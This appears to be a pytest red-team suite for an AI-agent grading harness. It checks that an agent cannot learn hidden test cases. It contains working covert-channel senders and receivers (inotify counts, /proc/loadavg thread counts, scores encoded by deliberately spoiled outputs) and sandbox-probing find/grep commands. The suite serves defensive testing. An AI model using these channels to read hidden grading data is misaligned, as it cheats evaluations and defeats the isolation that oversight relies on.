"""Red team, goal "learn a hidden case": attacks through the MCP tools of one run.

Each test performs an attack as the agent under evaluation would (the SDK's client over
stdio, `ramp-mcp --run RUN`, see tests/trust/session.py) and asserts the SECURE outcome:
nothing of a hidden case comes back to the agent. Tests of attacks that succeed today fail.

What a stage program legitimately sees while graded (all hidden sources under /ramp/case at
T0, every hidden input under /ramp/input later) is not the question; whether any of it
reaches the agent is. Channels found (see the report for numbers):

- per-uid kernel counters: grading runs the stage programs as the run's own uid, the same
  uid as the agent's development sandbox, and the kernel keeps some limits per uid across
  every namespace: inotify instances (fs.inotify.max_user_instances, 128), the key quota
  (/proc/key-users, bwrap), RLIMIT_NPROC (docker). A stage program modulates one while it
  is graded; a run_command started alongside submit_stage reads it. About 500 bit/s of
  grading time, so whole hidden sources per submission, at full marks.
- scores: a stage program spoils its outputs by chosen amounts; the mean score, rounded to
  4 decimals, spells out about 19 bits per score shown.
- grader errors: a golden build that fails at grading is reported to the agent verbatim,
  naming the hidden case and quoting what the reference pipeline said about its source.

Closed since (docs/threat-model.md, rows 11-15): grading runs as the run's grading uid; the
run's commands are killed and its tools refused while it is graded; scores are shown as
whole numbers; grader errors in fixed words. What stays open, bounded, is listed there.
"""

from __future__ import annotations

import json
import re
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client

import grader._machine as machine_module
from golden import Case, CaseKind, Split, builtin_corpus
from grader._grading import hidden_cases
from grader._machine import StageMachine, sample_cases
from grader.ledger import Ledger
from ramp_mcp._runs import ServerSettings
from ramp_mcp._server import build_server
from tests.support import backend_missing
from tests.trust.attacks import BOTH
from tests.trust.conftest import Sessions
from tests.trust.session import Session
from toolchain._capped import remove_tree
from toolchain._manifest import Profile

HIDDEN = {c.name: c for c in builtin_corpus() if c.split is Split.HIDDEN}
PUBLIC = sorted(c.name for c in builtin_corpus() if c.split is Split.PUBLIC)
# The cases a `--sample 6` run is graded on (the session fixture makes such runs).
SAMPLED = [c.name for c in sample_cases(hidden_cases(), 6)]
GOOD_T0 = '#!/bin/sh\nexec clang-19 -E -x c -isystem /ramp/include -include sylib.h "$1" -o "$2"\n'
CHMOD_BUILD = "#!/bin/sh\nchmod +x bin/*\n"

pytestmark = pytest.mark.timeout(1800)


# -- the inotify channel ----------------------------------------------------------------------

# bin/t0: a correct preprocessor which, while graded, signals what it sees in /ramp/case (the
# names and sizes of every hidden case of the run, then their sources, smallest first) by
# how many inotify instances it holds. The limit (128) is kept per uid by the kernel, across
# namespaces, and the grading sandbox runs as the same uid as the agent's own sandbox.
# Symbols: 1 + (sequence mod 4) * 32 + 5 data bits, held 10 ms each; 0 between slots. The
# invocations take turns (a lock in /ramp/output) and carry on from a shared offset; each
# slot begins with that offset in 4 symbols.
INOTIFY_SENDER = r"""#!/usr/bin/python3
import ctypes, os, subprocess, sys, time
START = time.monotonic()
BUDGET, SLOT, HOLD = 8.8, 4.4, 0.010
libc = ctypes.CDLL(None, use_errno=True)
held = []
def hold(k):
    while len(held) > k:
        os.close(held.pop())
    while len(held) < k:
        fd = libc.inotify_init()
        if fd < 0:
            time.sleep(0.0002)
            continue
        held.append(fd)
def payload(case_dir):
    names = sorted(n for n in os.listdir(case_dir) if n.endswith(".sy"))
    sizes = {n: os.path.getsize(os.path.join(case_dir, n)) for n in names}
    blob = "".join(f"{n} {sizes[n]}\n" for n in names).encode() + b"\n"
    for n in sorted(names, key=lambda n: sizes[n]):
        with open(os.path.join(case_dir, n), "rb") as f:
            blob += b"=== " + n.encode() + b"\n" + f.read() + b"\n"
    return blob
def symbols(data):
    bits = "".join(f"{b:08b}" for b in data)
    bits += "0" * (-len(bits) % 5)
    return [int(bits[i:i + 5], 2) for i in range(0, len(bits), 5)]
def send(values, first_seq):
    for i, d in enumerate(values):
        hold(1 + (((first_seq + i) & 3) << 5) + d)
        time.sleep(HOLD)
def transmit(case_dir, state_dir):
    lock = os.path.join(state_dir, ".rt-lock")
    while True:
        try:
            os.close(os.open(lock, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
            break
        except FileExistsError:
            if time.monotonic() - START > BUDGET - 0.5:
                return
            time.sleep(0.005)
    acquired = time.monotonic()
    try:
        off_path = os.path.join(state_dir, ".rt-off")
        try:
            off = int(open(off_path).read())
        except (OSError, ValueError):
            off = 0
        syms = symbols(payload(case_dir))
        hold(0)
        time.sleep(0.05)
        send([(off >> s) & 31 for s in (15, 10, 5, 0)], 0)
        seq = 4
        while off < len(syms) and time.monotonic() - START < BUDGET \
                and time.monotonic() - acquired < SLOT:
            send([syms[off]], seq)
            seq += 1
            off += 1
        hold(0)
        with open(off_path + ".tmp", "w") as f:
            f.write(str(off))
        os.replace(off_path + ".tmp", off_path)
    finally:
        hold(0)
        os.unlink(lock)
src, out = sys.argv[1], sys.argv[2]
try:
    transmit(os.path.dirname(src), os.path.dirname(out))
except Exception:
    pass
sys.exit(subprocess.call(["clang-19", "-E", "-x", "c", "-isystem", "/ramp/include",
                          "-include", "sylib.h", src, "-o", out]))
"""

# Run in the agent's own sandbox alongside submit_stage: counts the inotify instances the uid
# can still open, decodes the symbols, prints the text (erased bytes as U+001A).
INOTIFY_RECEIVER = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
DURATION, IDLE_END = float(sys.argv[1]), float(sys.argv[2])
def measure():
    fds = []
    while True:
        fd = libc.inotify_init()
        if fd < 0:
            break
        fds.append(fd)
    for fd in fds:
        os.close(fd)
    return 128 - len(fds)
t0 = time.monotonic()
data, slot, slots = {}, None, 0
prev, last_seq, last_signal = None, None, None
def close_slot():
    global slot, slots
    if slot and len(slot) >= 4 and None not in slot[:4]:
        off = (slot[0] << 15) | (slot[1] << 10) | (slot[2] << 5) | slot[3]
        for i, v in enumerate(slot[4:]):
            if v is not None:
                data[off + i] = v
        slots += 1
    slot = None
while time.monotonic() - t0 < DURATION:
    k = measure()
    now = time.monotonic()
    if k == prev:
        if k == 0:
            if slot is not None:
                close_slot()
            last_seq = None
            if last_signal is not None and now - last_signal > IDLE_END:
                break
        else:
            last_signal = now
            v = k - 1
            seq, d = v >> 5, v & 31
            if slot is None:
                if seq == 0:
                    slot, last_seq = [d], 0
            elif seq != last_seq:
                slot.extend([None] * ((seq - last_seq) % 4 - 1))
                slot.append(d)
                last_seq = seq
    prev = k
    time.sleep(0.001)
close_slot()
n = max(data) + 1 if data else 0
bits = "".join(f"{data[i]:05b}" if i in data else "?????" for i in range(n))
out, erased = bytearray(), 0
for i in range(0, len(bits) - 7, 8):
    chunk = bits[i:i + 8]
    if "?" in chunk:
        out += b"\x1a"
        erased += 1
    else:
        out.append(int(chunk, 2))
print(f"RECEIVED symbols={len(data)} slots={slots} bytes={len(out)} erased={erased}")
sys.stdout.write(out.decode("utf-8", "replace"))
"""


def _alongside_submit(s: Session, stage: str, command: str) -> tuple[dict[str, Any], str]:
    """submit_stage ``stage`` while ``command`` runs in the agent's sandbox (started first):
    the submission's reply and the command's stdout."""
    replies: dict[str, Any] = {}

    async def both() -> None:
        async def listen() -> None:
            replies["listen"] = await s.client.call_tool(
                "run_command", {"command": command, "timeout_s": 600}
            )

        async def submit() -> None:
            await anyio.sleep(2)
            replies["submit"] = await s.client.call_tool("submit_stage", {"stage": stage})

        async with anyio.create_task_group() as group:
            group.start_soon(listen)
            group.start_soon(submit)

    s.portal.call(both)
    submitted, listened = replies["submit"], replies["listen"]
    assert not submitted.is_error, submitted.content
    assert not listened.is_error, listened.content
    return dict(submitted.structured_content or {}), listened.structured_content["stdout"]


def _leaked(text: str) -> tuple[list[str], int]:
    """The sampled hidden case names found in ``text``, and how many lines of their sources
    (of 12 characters or more) it holds word for word."""
    names = [n for n in SAMPLED if n in text]
    lines = {
        line.strip()
        for n in SAMPLED
        for line in HIDDEN[n].source.read_text(encoding="utf-8").splitlines()
        if len(line.strip()) >= 12
    }
    return names, sum(1 for line in lines if line in text)


@pytest.mark.parametrize("backend", BOTH)
def test_inotify_channel_from_t0_grading(sessions: Sessions, backend: str) -> None:
    """bin/t0 scores full marks and, meanwhile, tells a run_command in the agent's sandbox
    the hidden cases' names and sources through the uid's inotify instance count."""
    s = sessions.get(f"hidden-inotify-{backend}", backend)
    s.ok("write_file", {"path": "build.sh", "content": CHMOD_BUILD})
    s.ok("write_file", {"path": "bin/t0", "content": INOTIFY_SENDER})
    s.ok("write_file", {"path": "listen.py", "content": INOTIFY_RECEIVER})
    assert s.ok("build")["ok"]
    started = time.monotonic()
    graded, heard = _alongside_submit(s, "T0", "python3 listen.py 560 12")
    seconds = time.monotonic() - started
    # The attack is stealthy: the stage is graded normally.
    assert graded["score"] == 100.0 and graded["passed"], graded
    said = json.dumps(graded)
    assert not any(n in said for n in HIDDEN), said
    names, lines = _leaked(heard)
    header = heard.splitlines()[0] if heard else ""
    match = re.search(r"symbols=(\d+)", header)
    bits = 5 * int(match.group(1)) if match else 0
    assert names == [] and lines == 0, (
        f"{backend}: a run_command alongside submit_stage heard {bits} bits in {seconds:.0f} s: "
        f"{len(names)} of {len(SAMPLED)} hidden case names and {lines} hidden source lines, "
        f"e.g.\n{heard[:1200]}"
    )


# -- the score channel ------------------------------------------------------------------------

# bin/t0 spoils clang's output by exact amounts so that the six T0 scores, averaged and
# rounded to 4 decimals, spell out the first three letters of the alphabetically first hidden
# case name (15 bits). A T0 score is 100*equal/total lines (capped at 59); total may be padded
# at will. Case 0 (by name) scores (fine + 0.5)/256, below 1; cases 1..5 score whole numbers
# 0..26 that add up to the coarse part.
SCORE_SENDER = r"""#!/usr/bin/python3
import math, os, subprocess, sys
ALPHABET = "abcdefghijklmnopqrstuvwxyz_0123"
src, out = sys.argv[1], sys.argv[2]
names = sorted(n for n in os.listdir(os.path.dirname(src)) if n.endswith(".sy"))
value = 0
for ch in names[0][:3]:
    value = value * 32 + (ALPHABET.index(ch) if ch in ALPHABET else 31)
coarse, fine = value // 256, value % 256
role = names.index(os.path.basename(src))
golden = subprocess.run(["clang-19", "-E", "-x", "c", "-isystem", "/ramp/include", "-include",
                         "sylib.h", src], capture_output=True, check=True).stdout.decode()
lines = golden[:-1].split("\n") if golden.endswith("\n") else golden.split("\n")
if role == 0:
    equal = 27
    total = round(100 * equal * 256 / (fine + 0.5))
else:
    share = max(0, min(26, coarse - 26 * (role - 1)))
    m = math.ceil(len(lines) / 100)
    equal, total = share * m, 100 * m
with open(out, "w") as f:
    f.write("\n".join(lines[:equal]) + ("\n" if equal else ""))
    f.write("\x01\n" * (total - equal))
"""
_ALPHABET = "abcdefghijklmnopqrstuvwxyz_0123"


def _decode_score(score: float, cases: int) -> str:
    total = score * cases
    coarse = int(total + 1e-3)
    value = coarse * 256 + int((total - coarse) * 256)
    return "".join(_ALPHABET[(value >> shift) & 31] for shift in (10, 5, 0))


def test_score_channel_t0(sessions: Sessions) -> None:
    """Fifteen bits of the hidden case names come back in one T0 score."""
    s = sessions.get("hidden-score", "bwrap")
    s.ok("write_file", {"path": "build.sh", "content": CHMOD_BUILD})
    s.ok("write_file", {"path": "bin/t0", "content": SCORE_SENDER})
    assert s.ok("build")["ok"]
    graded = s.ok("submit_stage", {"stage": "T0"})
    decoded = _decode_score(graded["score"], len(SAMPLED))
    truth = sorted(SAMPLED)[0][:3]
    assert decoded != truth, (
        f"the T0 score {graded['score']} spells {decoded!r}, the first three letters of the "
        f"hidden case {sorted(SAMPLED)[0]!r} (15 bits in one score; feedback: "
        f"{graded['feedback']})"
    )


# -- a machine-wide counter -------------------------------------------------------------------

# What is left with a uid of its own for grading: /proc/loadavg shows the machine's thread
# count in every sandbox. bin/t0, while graded, starts 200 threads in the 0.5 s windows of a
# bit pattern (once, under a lock in /ramp/output); a run_command started before the
# submission prints the count every 10 ms (flushed, so what it heard survives its end).
_PATTERN = [1, 0, 1, 1, 0, 0, 1, 0, 1, 1, 1, 0, 0, 0, 1, 0]
THREAD_SENDER_T0 = f"""#!/usr/bin/python3
import os, subprocess, sys, threading, time
src, out = sys.argv[1], sys.argv[2]
try:
    os.close(os.open(os.path.join(os.path.dirname(out), ".rt-threads"),
                     os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    for b in {_PATTERN}:
        ev = threading.Event()
        ts = [threading.Thread(target=ev.wait) for _ in range(200 if b else 0)]
        for t in ts:
            t.start()
        time.sleep(0.5)
        ev.set()
        for t in ts:
            t.join()
except FileExistsError:
    pass
sys.exit(subprocess.call(["clang-19", "-E", "-x", "c", "-isystem", "/ramp/include",
                          "-include", "sylib.h", src, "-o", out]))
"""
THREAD_RECEIVER = """python3 - <<'P'
import sys, time
start = time.monotonic()
while time.monotonic() - start < 240:
    n = open("/proc/loadavg").read().split()[3].split("/")[1]
    print(f"{time.monotonic() - start:.3f} {n}", flush=True)
    time.sleep(0.01)
P"""


def _pattern_gap(heard: list[tuple[float, int]]) -> float:
    """How much higher the thread count is, on average, in the pattern's '1' windows than
    in its '0' windows, at the lag (found by correlation) that fits best."""
    if not heard:
        return 0.0
    end = heard[-1][0]

    def fit(lag: float) -> float:
        return sum(
            n * (1 if _PATTERN[int((t - lag) / 0.5)] else -1)
            for t, n in heard
            if 0 <= t - lag < 8 and 0.1 < (t - lag) % 0.5 < 0.4
        )

    best = max(
        (fit(lag), lag) for lag in [x / 20 for x in range(0, int(max(0, end - 8) * 20) + 1)]
    )[1]
    ones = [n for t, n in heard if 0 <= t - best < 8 and _PATTERN[int((t - best) / 0.5)]]
    zeros = [n for t, n in heard if 0 <= t - best < 8 and not _PATTERN[int((t - best) / 0.5)]]
    return sum(ones) / max(1, len(ones)) - sum(zeros) / max(1, len(zeros))


@pytest.mark.parametrize("backend", BOTH)
def test_machine_thread_count_channel(sessions: Sessions, backend: str) -> None:
    """bin/t0, while graded, signals through the machine's thread count (/proc/loadavg, the
    same in every sandbox, whatever its uid) to a run_command started before submit_stage.

    Adjusted (it measured this between two run_commands of one run, which are both the
    agent's and may talk as they like): the design does not hide the machine's thread count
    from a sandbox; it promises that nothing of the run runs while its programs are graded
    (the server kills the run's commands when a stage is claimed and refuses its tools until
    the grade is recorded; the grader kills every process of the run's uid). So the
    listener must hear nothing of the grading. What a concurrent run could still hear is a
    residual channel between runs (docs/threat-model.md)."""
    s = sessions.get(f"hidden-threads-{backend}", backend)
    s.ok("write_file", {"path": "build.sh", "content": CHMOD_BUILD})
    s.ok("write_file", {"path": "bin/t0", "content": THREAD_SENDER_T0})
    assert s.ok("build")["ok"]
    graded, listened = _alongside_submit(s, "T0", THREAD_RECEIVER)
    assert graded["score"] == 100.0, graded
    heard = [(float(t), int(n)) for t, n in (x.split() for x in listened.splitlines() if x)]
    last = heard[-1][0] if heard else 0.0
    gap = _pattern_gap(heard)
    assert gap < 50, (
        f"{backend}: the machine's thread count rose by {gap:.0f} on average in the sender's "
        f"'1' windows: a run_command heard the graded program (1 bit per 0.5 s here; it "
        f"listened for {last:.1f} s)"
    )
    # The listener ended when the stage was claimed, long before its 240 s.
    assert last < 60, f"{backend}: the listener ran on for {last:.0f} s during grading"


# -- grader errors ----------------------------------------------------------------------------


@pytest.fixture()
def failing_hidden_case(tmp_path: Path) -> Iterator[Case]:
    """A hidden case whose golden artifacts cannot be built: the condition seen live on this
    machine (a golden rebuild at grading failed for the hidden case perf_radixsort, and the
    agent's submit_stage reply named it with its expected exit code and stdout length).
    Here its source does not compile, so the reference pipeline's clang complains about it."""
    source = tmp_path / "hidden_secret_case.sy"
    source.write_text("int main() {\n  return SECRET_HIDDEN_TOKEN_4711;\n}\n", encoding="utf-8")
    yield Case(
        name=f"zz_hidden_{uuid.uuid4().hex[:8]}",
        split=Split.HIDDEN,
        kind=CaseKind.FUNCTIONAL,
        source=source,
        stdin=None,
        expected_stdout=None,
        expected_exit=None,
    )


def test_grading_error_names_hidden_case(
    failing_hidden_case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A grader-side failure comes back to the agent as text: with a hidden case in it."""
    if backend_missing("bwrap") or backend_missing("bwrap", Profile.MINIMAL):
        pytest.skip("bwrap not ready")
    cases = (sample_cases(hidden_cases(), 1)[0], failing_hidden_case)
    # The server's stage machine grades on the hidden set; this one has the failing case.
    monkeypatch.setattr(machine_module, "hidden_cases", lambda: cases)
    url = f"sqlite:///{tmp_path / 'ledger.sqlite3'}"
    with Ledger.open(url) as ledger:
        run = StageMachine(ledger, cases=cases).create_run(agent="redteam", sandbox="bwrap")
    reply_text = ""
    try:

        async def agent() -> str:
            server = build_server(ServerSettings(run_id=run.id, ledger_url=url))
            async with Client(server) as client:
                await client.call_tool("write_file", {"path": "build.sh", "content": CHMOD_BUILD})
                await client.call_tool("write_file", {"path": "bin/t0", "content": GOOD_T0})
                result = await client.call_tool("submit_stage", {"stage": "T0"})
                return " ".join(getattr(c, "text", "") for c in result.content) + json.dumps(
                    result.structured_content
                )

        reply_text = anyio.run(agent)
    finally:
        remove_tree(Path(run.workspace).parent)
    assert failing_hidden_case.name not in reply_text, reply_text
    assert "SECRET_HIDDEN_TOKEN" not in reply_text, reply_text


# -- what held --------------------------------------------------------------------------------


@pytest.mark.parametrize("backend", BOTH)
def test_run_stage_sees_only_its_public_case(sessions: Sessions, backend: str) -> None:
    """run_stage mounts the one public case asked for: no hidden source is in its sandbox."""
    s = sessions.box(backend)
    s.ok("write_file", {"path": "build.sh", "content": CHMOD_BUILD})
    probe = (
        "#!/bin/sh\n{ ls -a /ramp /ramp/case /ramp/input /ramp/output 2>&1; "
        "find / -xdev -name '*.sy' -not -path '/workspace/*' 2>/dev/null; "
        'ls /var/lib/ramp /work 2>&1; } > "$2"\nexit 0\n'
    )
    s.ok("write_file", {"path": "bin/t0", "content": probe})
    assert s.ok("build")["ok"]
    seen = s.ok("run_stage", {"stage": "T0", "case": PUBLIC[0]})["output_head"]
    assert f"{PUBLIC[0]}.sy" in seen, seen
    assert not any(n in seen for n in HIDDEN), seen
    assert "No such file" in seen, seen  # /var/lib/ramp and /work are not there


def test_no_hidden_case_name_oracle(sessions: Sessions) -> None:
    """run_stage answers a hidden case's name exactly as a made-up one."""
    s = sessions.get("main")
    for hidden in SAMPLED[:3]:
        made_up = f"{hidden}_x"
        a = s.call("run_stage", {"stage": "T0", "case": hidden})
        b = s.call("run_stage", {"stage": "T0", "case": made_up})
        assert a.error and b.error
        assert a.text.replace(hidden, "NAME") == b.text.replace(made_up, "NAME"), (a, b)


@pytest.mark.parametrize("backend", BOTH)
def test_agent_sandbox_holds_no_hidden_data(sessions: Sessions, backend: str) -> None:
    """Neither the sandbox nor the file tools reach a hidden source, a golden artifact, the
    repository's corpus or RAMP's state directory."""
    s = sessions.box(backend)
    names = " -o ".join(f"-name '{n}*'" for n in SAMPLED)
    line = next(
        x.strip()
        for x in HIDDEN[SAMPLED[0]].source.read_text(encoding="utf-8").splitlines()
        if len(x.strip()) > 20
    )
    out = s.sh(
        f"find / -xdev \\( {names} -o -name 'T0.i' -o -name expected.out -o -name corpus \\) "
        "-not -path '/proc/*' 2>/dev/null; ls -d /var/lib/ramp /work /proc/1/root/var/lib/ramp "
        f"2>&1; grep -rlF {json.dumps(line)} /workspace /ramp /tmp /root /home 2>/dev/null; true",
        timeout_s=300,
    )["stdout"]
    found = [x for x in out.splitlines() if x.startswith("/") and "No such file" not in x]
    assert found == [], found
    listed = json.dumps(s.ok("glob", {"pattern": "**/*"}))
    assert not any(n in listed for n in HIDDEN)
    grep = s.ok("grep", {"pattern": re.escape(line)})
    assert grep["matches"] == [], grep


def test_revealed_references_are_public_only(sessions: Sessions) -> None:
    """After T0 the agent gets /ramp/reference/T0 for the public cases, none hidden."""
    s = sessions.get("hidden-inotify-bwrap", "bwrap")
    status = s.ok("status")
    if status["open_stage"] in (None, "T0"):
        pytest.skip("T0 is still open in this session (the inotify attack did not run)")
    listed = s.ok("list_files", {"path": "/ramp/reference", "depth": 3})
    text = json.dumps(listed)
    assert "T0" in text and any(p in text for p in PUBLIC), text[:500]
    assert not any(f"/{n}." in text for n in HIDDEN), text[:2000]
